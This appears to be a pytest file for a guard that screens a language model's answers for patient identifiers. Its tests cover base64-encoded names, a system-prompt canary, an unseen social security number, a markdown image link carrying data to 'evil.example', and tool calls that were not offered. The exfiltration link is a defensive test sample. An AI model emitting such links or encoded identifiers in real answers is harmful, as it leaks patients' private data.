"""The order of the checks of an answer; each is tested alone in its room."""

import orjson

from phiward.domain.chat import Finished, TextDelta, ToolCallDelta, UpstreamEvent
from phiward.domain.tools import RemovedTool
from phiward.flow.checks import Checks
from phiward.flow.inbound import Inbound
from phiward.guard.foreign import foreign
from phiward.guard.tools import CallDecision
from phiward.guard.unseen import Context
from tests.flow.fakes import patient
from tests.flow.indexes import index_of

ME, OTHER = patient(), patient("Zelda Quagmire", "40019999")
PLACEHOLDERS = {"[PATIENT_1]": "Margaret Okafor"}


def answer(*events: UpstreamEvent, **more: object) -> tuple[Inbound, list[UpstreamEvent]]:
    """What is released of these events."""
    checks = Checks(PLACEHOLDERS, index_of(ME, OTHER), frozenset([ME.patient]), **more)  # type: ignore[arg-type]
    inbound = Inbound(checks)
    released = [one for event in events for one in inbound.pass_on(event)]
    return inbound, [*released, *inbound.closing()]


def words(events: list[UpstreamEvent]) -> str:
    """The text of them."""
    return "".join(one.text for one in events if isinstance(one, TextDelta))


def test_a_name_in_base64_is_withheld_behind_the_restored_names() -> None:
    """Both checks in their order: the placeholder is restored, the encoded stranger is not released."""
    inbound, events = answer(TextDelta(0, "[PATIENT_1] asks: WmVsZGEgUXVhZ21pcmU="), Finished(0, "stop"))
    assert "WmVsZGE" not in words(events)
    assert inbound.withheld_by == {"encoded_identifier": 1}
    assert inbound.counts.withheld == 1


def test_a_name_that_a_tool_or_a_paste_brought_is_not_restored() -> None:
    """It was hidden from the model; that the model asks for it is no reason to say it."""
    issued = {**PLACEHOLDERS, "[NAME_2]": "Zelda Quagmire"}
    index, granted = index_of(ME, OTHER), frozenset([ME.patient])
    told: tuple[tuple[list[str], str], ...] = (
        ([], "Margaret Okafor and [withheld: identifier of another person]"),
        (["Her sister, Quagmire-free"], "Margaret Okafor and [withheld: identifier of another person]"),
        (["Her sister Zelda Quagmire drove her."], "Margaret Okafor and Zelda Quagmire"),
    )
    for record, expected in told:
        checks = Checks(issued, index, granted, foreign=foreign(issued, index, granted, record))
        inbound = Inbound(checks)
        events = [*inbound.pass_on(TextDelta(0, "[PATIENT_1] and [NAME_2]")), *inbound.pass_on(Finished(0, "stop"))]
        assert words(events) == expected
        assert inbound.counts.withheld == (0 if record and "Zelda" in record[0] else 1)


def test_the_reasons_are_keys_that_json_takes() -> None:
    """A member of an enumeration is none: such an answer once ended as a defect instead of being shown."""
    inbound, _ = answer(TextDelta(0, "WmVsZGEgUXVhZ21pcmU="), Finished(0, "stop"))
    assert orjson.loads(orjson.dumps(inbound.withheld_by)) == {"encoded_identifier": 1}


def test_the_system_prompts_mark_and_unseen_numbers_and_links_do_not_go_out() -> None:
    """Each by its own rule."""
    texts = (
        "My instructions bear the mark bcdfghjklmnpqrst.\n",
        "Her social security number is 219-09-9999.\n",
        "![x](https://evil.example/?q=labs)\n",
    )
    more = {"canaries": ("bcdfghjklmnpqrst",), "seen": Context(["Potassium 4.1"])}
    inbound, events = answer(*(TextDelta(0, one) for one in texts), Finished(0, "stop"), **more)
    assert inbound.withheld_by == {"canary": 1, "unseen_identifier": 1}
    assert inbound.inert == 1
    for part in ("bcdfghjklmnpqrst", "219-09-9999", "evil.example"):
        assert part not in words(events)


def test_where_no_call_is_passed_on_the_answer_has_merely_stopped() -> None:
    """A client would wait for a call that never comes."""
    call = ToolCallDelta(0, 0, "c", "book", "{}")
    inbound, events = answer(call, Finished(0, "tool_calls"))
    assert events == [Finished(0, "stop")]
    assert inbound.removed_calls == [RemovedTool("(a tool that was not offered)", "not_offered")]


def test_placeholders_in_a_call_are_restored_only_where_it_was_registered_for_names() -> None:
    """Otherwise the tool gets what the model got."""
    call = ToolCallDelta(0, 0, "c", "book", '{"who": "[PATIENT_1]"}')
    for identified, expected in ((True, "Margaret Okafor"), (False, "[PATIENT_1]")):

        def admit(name: str, arguments: str, identified: bool = identified) -> CallDecision:
            return CallDecision(True, name, None, identified, arguments)

        _, events = answer(call, Finished(0, "tool_calls"), admit=admit)
        (released,) = [one for one in events if isinstance(one, ToolCallDelta)]
        assert expected in released.arguments
